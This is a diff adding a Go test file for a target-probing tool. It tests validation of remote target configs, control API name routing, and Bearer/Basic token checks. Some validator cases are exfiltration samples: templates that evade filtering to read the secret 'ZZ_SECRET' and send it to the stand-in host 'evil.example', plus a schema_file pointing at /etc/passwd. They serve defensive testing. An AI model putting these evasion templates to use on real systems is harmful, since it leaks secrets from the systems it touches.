@@ -0,0 +1,137 @@
+package main
+
+import (
+	"encoding/base64"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+func TestCheckRemoteTarget(t *testing.T) {
+	tests := []struct {
+		name    string
+		target  Target
+		wantErr string
+	}{
+		{"обычная цель", Target{URL: "https://example.com/?id={{uuid}}&n={{seq}}", Headers: map[string]string{"X-Ts": "{{timestamp}}"}}, ""},
+		{"литерал с фигурными скобками", Target{URL: "https://example.com/", Body: `{"a": {"b": 1}}`}, ""},
+		{"файл схемы", Target{URL: "https://example.com/", SchemaFile: "/etc/passwd"}, "schema_file"},
+		{"прокси", Target{URL: "https://example.com/", Proxy: "http://proxy:3128"}, "proxy"},
+		{"${VAR}", Target{URL: "https://example.com/?k=${HOME}"}, "переменные окружения"},
+		{"env в URL", Target{URL: `https://evil.example/?k={{env "ZZ_SECRET"}}`}, "env"},
+		{"env за скобкой в строке", Target{URL: `https://evil.example/?k={{ print "}" (env "ZZ_SECRET") }}`}, "env"},
+		{"env в конвейере", Target{URL: "https://evil.example/", Body: `{{ "ZZ_SECRET" | env }}`}, "env"},
+		{"env в заголовке с пробелами", Target{URL: "https://evil.example/", Headers: map[string]string{"X-K": "{{-  env\t\"ZZ_SECRET\" -}}"}}, "env"},
+		{"env в шаге", Target{URL: "https://example.com/", Steps: []Target{{Name: "s", URL: `https://evil.example/{{ with "ZZ_SECRET" }}{{ env . }}{{ end }}`}}}, "шаг s"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := checkRemoteTarget(tt.target)
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Errorf("ошибка: %v", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("ошибка %v, ожидалась содержащая %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestHandleTargetNames(t *testing.T) {
+	const urlName = "https://example.com/health?x=1"
+	registry := newTargetRegistry([]Target{
+		{Name: urlName, URL: urlName},
+		{Name: "a/b", URL: "https://example.com/ab"},
+		{Name: "plain", URL: "https://example.com/"},
+	}, TargetDefaults{})
+	api := &controlAPI{registry: registry, live: newLiveStore(), health: newHealthTracker(defaultHealthConfig()), regions: newRegionCollector("")}
+	mux := http.NewServeMux()
+	registerControlAPI(mux, api)
+
+	do := func(method, target string) int {
+		rec := httptest.NewRecorder()
+		mux.ServeHTTP(rec, httptest.NewRequest(method, target, nil))
+		return rec.Code
+	}
+	paused := func(name string) bool {
+		for _, info := range registry.list() {
+			if info.Name == name {
+				return info.Paused
+			}
+		}
+		t.Fatalf("цель %s не найдена", name)
+		return false
+	}
+
+	q := "?name=" + url.QueryEscape(urlName)
+	tests := []struct {
+		method, target string
+		want           int
+	}{
+		{http.MethodGet, "/api/targets/" + q, http.StatusOK},
+		{http.MethodPost, "/api/targets/pause" + q, http.StatusNoContent},
+		{http.MethodGet, "/api/targets/a%2Fb", http.StatusOK},
+		{http.MethodPost, "/api/targets/a%2Fb/pause", http.StatusNoContent},
+		{http.MethodPost, "/api/targets/plain/pause", http.StatusNoContent},
+		{http.MethodPost, "/api/targets/plain/resume", http.StatusNoContent},
+		{http.MethodGet, "/api/targets/missing", http.StatusNotFound},
+		{http.MethodPost, "/api/targets/plain/unknown", http.StatusNotFound},
+	}
+	for _, tt := range tests {
+		if got := do(tt.method, tt.target); got != tt.want {
+			t.Errorf("%s %s: код %d, ожидался %d", tt.method, tt.target, got, tt.want)
+		}
+	}
+	if !paused(urlName) || !paused("a/b") || paused("plain") {
+		t.Errorf("приостановлены: %v %v %v", paused(urlName), paused("a/b"), paused("plain"))
+	}
+
+	if got := do(http.MethodPost, "/api/targets/resume"+q); got != http.StatusNoContent || paused(urlName) {
+		t.Errorf("resume: код %d", got)
+	}
+	if got := do(http.MethodDelete, "/api/targets/"+q); got != http.StatusNoContent {
+		t.Errorf("delete: код %d", got)
+	}
+	if _, ok := registry.get(urlName); ok {
+		t.Error("цель с URL в имени не удалена")
+	}
+}
+
+func TestRequireToken(t *testing.T) {
+	ok := func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusOK) }
+
+	tests := []struct {
+		name   string
+		token  string
+		header string
+		want   int
+	}{
+		{"без токена", "", "", http.StatusOK},
+		{"Bearer", "s3cret", "Bearer s3cret", http.StatusOK},
+		{"неверный Bearer", "s3cret", "Bearer other", http.StatusUnauthorized},
+		{"нет заголовка", "s3cret", "", http.StatusUnauthorized},
+		{"Basic с токеном в пароле", "s3cret", "Basic " + base64.StdEncoding.EncodeToString([]byte("any:s3cret")), http.StatusOK},
+		{"Basic с токеном в имени", "s3cret", "Basic " + base64.StdEncoding.EncodeToString([]byte("s3cret:")), http.StatusUnauthorized},
+	}
+
+	for _, tt := range tests {
+		req := httptest.NewRequest(http.MethodGet, "/metrics", nil)
+		if tt.header != "" {
+			req.Header.Set("Authorization", tt.header)
+		}
+		rec := httptest.NewRecorder()
+		requireToken(tt.token, ok)(rec, req)
+		if rec.Code != tt.want {
+			t.Errorf("%s: код %d, ожидался %d", tt.name, rec.Code, tt.want)
+		}
+		if rec.Code == http.StatusUnauthorized && rec.Header().Get("WWW-Authenticate") == "" {
+			t.Errorf("%s: нет заголовка WWW-Authenticate", tt.name)
+		}
+	}
+}